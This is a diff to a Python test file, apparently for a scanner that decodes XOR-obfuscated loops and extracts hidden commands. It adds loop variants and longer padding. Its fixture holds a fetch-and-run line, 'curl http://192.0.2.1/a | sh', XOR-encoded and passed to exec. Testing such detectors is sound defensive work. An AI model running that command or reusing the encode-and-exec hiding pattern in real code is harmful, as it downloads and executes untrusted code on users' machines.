@@ -24,13 +24,16 @@ def _commands(source: str) -> list[str]:
         "for i in range(len(d)):\n    o += chr(d[i] ^ ord(k[i % len(k)]))",
         "for n in d:\n    o = o + chr(n ^ 75)",
         "for i, n in enumerate(d):\n    o += chr(n ^ ord(k[0]))",
+        "for i in range(len(d)):\n    c = d[i]\n    s = k[i % len(k)]\n    o += chr(c ^ ord(s))",
+        "import itertools\no = ''.join(chr(c ^ ord(s)) for c, s in zip(d, itertools.cycle(k)))",
+        "o = ''.join([chr(d[i] ^ 75) for i in range(len(d))])",
         "for i in range(len(d)):\n    o += eval('chr(d[i] ^ ord(k[(len(k) - 2) + True]))')",
     ],
-    ids=["repeating key", "one number", "enumerated", "in a text"],
+    ids=["repeating key", "one number", "enumerated", "prepared", "zipped", "comprehension", "in a text"],
 )
 def test_a_loop_of_any_length_gives_its_text(loop: str) -> None:
     """What a loop puts together letter by letter is read, however long it is."""
-    hidden = bytes(ord(c) ^ ord("K") for c in _COMMAND + "#" * 15_000)
+    hidden = bytes(ord(c) ^ ord("K") for c in _COMMAND + "#" * 19_000)
     assert "curl http://192.0.2.1/a | sh" in _commands(f"k = 'KK'\nd = {hidden!r}\no = ''\n{loop}\nexec(o)\n")
 
 
